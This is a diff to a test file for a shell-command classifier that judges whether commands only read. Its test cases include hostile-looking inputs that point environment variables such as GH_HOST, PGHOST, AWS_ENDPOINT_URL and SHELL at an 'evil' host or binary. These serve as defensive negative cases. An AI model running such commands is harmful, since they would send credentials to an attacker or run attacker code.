@@ -1,7 +1,7 @@
 import { spawnSync } from 'node:child_process';
 import { describe, expect, test } from 'vitest';
-import { judged } from './programs/expect.js';
-import { findProgram } from './programs/table.js';
+import { judged } from './programs/expect.test-helper.js';
+import { findProgramSpec } from './programs/table.js';
 
 const knowledge = (text: string) => judged(text).knowledge;
 
@@ -19,7 +19,6 @@ describe('variables before a command that only reads', () => {
     'LESS=-FRX git log',
     'LESS=FRX git log',
     'LESS="-R --mouse -x4" git log',
-    "PS4='+ $LINENO: '; set -x; ls",
     "PS1='\\u@\\h:\\w\\$ '; ls",
     'IFS=: read -r a b',
     'FOO=bar; echo "$FOO"',
@@ -58,6 +57,9 @@ describe('variables before a command that only reads', () => {
     'SHELL=$PWD/evil; script -qc ls /dev/null',
     'DBUS_SESSION_BUS_ADDRESS=unixexec:path=/w/evil; busctl --user list',
     'TMPDIR=/w/x; ls',
+    'GH_HOST=evil.example; gh api user',
+    'PGHOST=evil.example; ls',
+    'AWS_ENDPOINT_URL=http://evil.example; aws s3 ls',
     'JAVA_HOME=/usr/../w/bin mvn --version',
     'SOMETHING_NEW=x ls',
     'env SOMETHING_NEW=x ls',
@@ -104,7 +106,7 @@ describe('every builtin of the shell is in the table', () => {
     expect(builtins.length).toBeGreaterThan(50);
     // What these run is read in their place.
     const read = ['builtin', 'command', 'exec'];
-    expect(builtins.filter((name) => findProgram(name) === undefined && !read.includes(name))).toEqual([]);
+    expect(builtins.filter((name) => findProgramSpec(name) === undefined && !read.includes(name))).toEqual([]);
   });
 
   test.each([
@@ -128,6 +130,9 @@ describe('every builtin of the shell is in the table', () => {
     'shopt -s dotglob',
     'shopt -s lastpipe',
     'set -o posix',
+    'set -x',
+    'enable -a',
+    'fc -l',
   ])('and is not harmless where it runs or redefines something: %s', (text) => {
     expect(knowledge(text)).toBe('unknown');
   });
@@ -138,12 +143,9 @@ describe('every builtin of the shell is in the table', () => {
     "compgen -W 'a b' -- a",
     'complete -p',
     'bind -p',
-    'enable -a',
     'hash',
-    'fc -l',
     'history 10',
     'set -euo pipefail',
-    'set -x',
     'shopt -s globstar',
     'shopt -u dotglob',
     'type ls',
